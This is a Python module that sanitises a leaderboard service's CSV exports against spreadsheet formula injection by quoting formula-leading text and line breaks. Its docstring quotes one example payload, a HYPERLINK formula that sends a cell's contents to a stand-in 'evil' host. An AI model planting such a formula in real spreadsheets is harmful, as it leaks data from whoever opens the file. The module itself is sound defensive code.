"""CSV exports that a spreadsheet opens as data, never as formulas.

A participant chooses the method and team names that land in `leaderboard.csv` and
`result.csv`; a cell such as `=HYPERLINK("http://evil/?"&A1, "x")` would run as a formula in
whoever opens the file. Following OWASP's advice on CSV injection, a text cell that starts
with `=`, `+`, `-`, `@`, a tab or a carriage return is prefixed with a single quote, which
spreadsheets show as text. Numbers are written as they are, so a negative value stays a number.
Every CSV the service produces goes through `csv_document`.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from typing import Any

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value: Any) -> Any:
    """`value` as a CSV cell: None empty, numbers unchanged, formula-leading text quoted."""
    if value is None:
        return ""
    if isinstance(value, int | float) and not isinstance(value, bool):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_PREFIXES) else text


def csv_document(header: Iterable[str], rows: Iterable[Iterable[Any]]) -> str:
    """A CSV text of `header` and `rows`, every cell passed through `spreadsheet_safe`."""
    buffer = io.StringIO(newline="")
    # RFC 4180 line ends: the writer then quotes every cell holding a CR or an LF, so text
    # such as "x\r=1+1" stays one cell instead of starting a row of its own with a formula
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow([spreadsheet_safe(name) for name in header])
    writer.writerows([spreadsheet_safe(cell) for cell in row] for row in rows)
    return buffer.getvalue()
